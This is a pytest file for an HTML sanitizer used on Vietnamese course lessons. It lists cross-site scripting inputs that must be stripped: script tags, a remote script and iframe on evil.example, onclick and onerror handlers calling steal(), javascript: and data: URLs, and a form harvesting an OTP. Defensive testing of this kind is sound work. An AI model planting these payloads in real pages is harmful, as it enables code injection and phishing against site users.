"""The one HTML policy removes what can run code and keeps what lessons need."""

import pytest

from xblocks.common.sanitize import sanitize_html


@pytest.mark.parametrize(
    "dangerous, forbidden",
    [
        ("<p>hi<script>alert('x')</script></p>", ["<script", "alert"]),
        ("<SCRIPT src='https://evil.example/x.js'></SCRIPT><p>ok</p>", ["script", "evil"]),
        ('<p onclick="steal()">x</p>', ["onclick", "steal"]),
        ('<img src="https://ok.vn/a.png" onerror="steal()">', ["onerror", "steal"]),
        ('<a href="javascript:alert(1)">x</a>', ["javascript:"]),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', ["alert"]),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', ["data:"]),
        ('<img src="data:image/png;base64,iVBORw0KGgo=">', ["data:"]),
        ('<iframe src="https://evil.example"></iframe><p>ok</p>', ["iframe", "evil"]),
        ('<p style="position:fixed;top:0">x</p>', ["style", "position"]),
        ('<form action="https://evil.example"><input name="otp"></form>', ["form", "input"]),
        ("<style>body{display:none}</style><p>x</p>", ["display:none", "<style"]),
    ],
)
def test_dangerous_markup_is_removed(dangerous, forbidden):
    cleaned = sanitize_html(dangerous).lower()
    for text in forbidden:
        assert text.lower() not in cleaned


def test_lesson_markup_is_kept():
    lesson = (
        "<h2>Bước 1</h2><h3>Mở ứng dụng</h3><p>Chạm vào <b>VNeID</b>, <i>đừng</i> <em>vội</em>,"
        " <strong>đọc kỹ</strong>.</p><ul><li>Một</li></ul><ol><li>Hai</li></ol>"
        '<p><a href="https://dichvucong.gov.vn">Cổng DVC</a>'
        '<img src="https://example.vn/buoc1.png" alt="Bước 1"></p>'
    )
    assert sanitize_html(lesson) == lesson


def test_http_image_is_dropped_but_course_static_image_kept():
    assert 'src="http://' not in sanitize_html('<img src="http://x.vn/a.png" alt="a">')
    assert 'src="/static/vneid.svg"' in sanitize_html('<img src="/static/vneid.svg" alt="a">')


def test_empty_input_gives_empty_output():
    assert sanitize_html("") == ""
